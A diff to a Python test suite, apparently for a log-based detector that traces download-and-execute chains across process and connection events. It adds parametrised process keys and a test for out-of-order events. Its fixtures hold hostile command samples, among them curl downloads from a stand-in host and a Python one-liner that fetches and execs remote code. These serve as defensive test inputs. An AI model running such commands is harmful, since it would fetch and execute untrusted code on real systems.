@@ -7,6 +7,7 @@ from pathlib import Path
 from unittest.mock import patch
 
 import msgspec
+import pytest
 from hypothesis import HealthCheck, event, given, settings
 from hypothesis import strategies as st
 
@@ -113,10 +114,10 @@ def test_what_was_passed_over_is_looked_at_once_a_transfer_is_near(tmp_path: Pat
     assert found == told([rows])
 
 
-def _told_of(events: Sequence[tuple[int, Fields]], folder: Path) -> list[Transfer]:
-    """What rows that come one a block, so many seconds after the beginning, amount to; the same as where each is looked at."""
+def _told_of(events: Sequence[tuple[int, Fields]], folder: Path, block: int = 1) -> list[Transfer]:
+    """What rows amount to that come so many seconds after the beginning; the same as where each is looked at."""
     rows = rows_of([event_of(fields, START + at * SECOND, number, "a.log") for number, (at, fields) in enumerate(events)])
-    found, passed = _lazily(rows, folder, 1)
+    found, passed = _lazily(rows, folder, block)
     assert passed
     assert found == told([rows])
     return found
@@ -170,29 +171,48 @@ def test_a_page_that_a_web_server_compiles_much_later_has_run(tmp_path: Path) ->
     assert [one.stages["run"].state for one in found] == ["seen"]
 
 
-def test_what_a_process_does_for_its_transfer_minutes_later_is_looked_at(tmp_path: Path) -> None:
+@pytest.mark.parametrize("key", [None, "{1}"])
+def test_what_a_process_does_for_its_transfer_minutes_later_is_looked_at(tmp_path: Path, key: str | None) -> None:
     connection = {"kind": EventKind.CONNECTION, "dst_ip": "192.0.2.7", "dst_port": 80, "initiated": True}
     found = _told_of(
         [
             (0, _start(610, 1, "cron", None)),
-            (1, {**FETCH, "argv": ("curl", "-o", "/tmp/a", "http://192.0.2.7/a")}),
+            (1, {**FETCH, "argv": ("curl", "-o", "/tmp/a", "http://192.0.2.7/a"), "process_key": key}),
             (500, DULL_FILE),
-            (600, {**connection, "pid": 611, "process_path": "/usr/bin/curl"}),
+            (600, {**connection, "pid": 611, "process_path": "/usr/bin/curl", "process_key": key}),
         ],
         tmp_path,
     )
     assert [one.stages["connected"].state for one in found] == ["seen"]
 
 
-def test_what_a_loader_starts_minutes_later_is_looked_at(tmp_path: Path) -> None:
+@pytest.mark.parametrize("key", [None, "{1}"])
+def test_what_a_loader_starts_minutes_later_is_looked_at(tmp_path: Path, key: str | None) -> None:
     code = "import urllib.request as u; exec(u.urlopen('http://192.0.2.7/a').read())"
     found = _told_of(
         [
             (0, _start(610, 1, "cron", None)),
-            (1, {**FETCH, "process_path": "/usr/bin/python3", "argv": ("python3", "-c", code)}),
+            (1, {**FETCH, "process_path": "/usr/bin/python3", "argv": ("python3", "-c", code), "process_key": key}),
             (500, DULL_FILE),
-            (600, _start(612, 611, "grep", None)),
+            (600, {**_start(612, 611 if key is None else 99, "grep", None), "parent_key": key}),
         ],
         tmp_path,
     )
     assert [row.record for one in found for row in one.evidence] == ["1", "3"]
+
+
+def test_what_a_process_did_before_its_start_was_told_is_not_lost(tmp_path: Path) -> None:
+    act: Fields = {"pid": 611, "process_path": "/usr/bin/curl"}
+    found = _told_of(
+        [
+            (0, _start(610, 1, "cron", None)),
+            (1, DULL_FILE),
+            (10, {**act, "kind": EventKind.FILE_CREATE, "file_path": "/tmp/q"}),
+            (11, _start(611, 610, "curl", None)),
+            (12, {**act, "kind": EventKind.SCRIPT, "content": "curl -o /tmp/q http://192.0.2.7/q"}),
+            (13, DULL_FILE),
+        ],
+        tmp_path,
+        block=2,
+    )
+    assert [one.stages["landed"].state for one in found] == ["seen"]
